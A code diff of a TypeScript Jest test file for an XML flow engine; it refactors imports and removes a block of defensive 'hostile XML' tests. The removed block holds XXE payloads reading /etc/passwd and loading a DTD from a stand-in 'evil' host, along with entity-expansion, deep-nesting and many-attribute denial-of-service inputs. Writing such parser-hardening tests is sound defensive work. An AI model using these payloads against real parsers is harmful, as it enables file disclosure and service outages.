@@ -4,15 +4,16 @@ import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { checkFlow } from './check/check-flow.js';
 import { compileFlow } from './compile/compile-flow.js';
-import { FlowDefinitionError, FlowProcessingError } from './error/flow-errors.js';
-import { ExpressionSyntaxError } from './expression/expression-context.js';
-import { compileSimplePredicate, compileSimpleTemplate } from './expression/simple/compile-simple.js';
-import { compileXPath } from './expression/xpath/compile-xpath.js';
+import { FlowDefinitionError } from './error/flow-errors.js';
+import { FlowProcessingError, ExpressionSyntaxError } from '@sluice/domain';
+
+import { compileSimplePredicate, compileSimpleTemplate } from '@sluice/simple-language';
+import { compileFlowXPath } from './expression/compile-flow-xpath.js';
 import { Message } from './message/message.js';
 import { type FlowMediaType, readFlowDefinition } from './reader/read-flow-definition.js';
 import { runFlow } from './run/run-flow.js';
 import { fixedPorts, flowWith, utf8 } from './testing/flow-fixture.js';
-import { parseXml } from './xml/parse-xml.js';
+import { parseXml } from '@sluice/xml';
 
 /** Runs of each property; together more than ten thousand inputs. */
 const RUNS = 1_200;
@@ -163,7 +164,7 @@ describe('broken input ends in typed errors, in bounded time', () => {
   it('expressions', () => {
     fc.assert(
       fc.property(mutated("for $x in //a[b = 'c'][2]/@d return map{'k': ($x + 1) div 2}?k"), (text) =>
-        compilesTyped(() => compileXPath(text, {})),
+        compilesTyped(() => compileFlowXPath(text, {})),
       ),
       { numRuns: RUNS },
     );
@@ -210,23 +211,4 @@ describe('broken input ends in typed errors, in bounded time', () => {
       { numRuns: RUNS * 2 },
     );
   }, 600_000);
-});
-
-describe('hostile XML', () => {
-  it.each([
-    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
-    ['an external parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]><a>&y;</a>'],
-    [
-      'entities that multiply',
-      `<!DOCTYPE a [<!ENTITY a "x">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(20)}">`).join('')}]><a>&a19;</a>`,
-    ],
-    ['deep nesting', '<a>'.repeat(200_000)],
-    ['many attributes', `<a ${Array.from({ length: 5_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`],
-  ])('is refused: %s', (_, xml) => {
-    timed(() => expect(() => parseXml(xml)).toThrow(FlowProcessingError));
-  });
-
-  it('skips an external document type without reading it', () => {
-    expect(parseXml('<!DOCTYPE cXML SYSTEM "http://evil/x.dtd"><cXML>t</cXML>').text).toBe('t');
-  });
 });
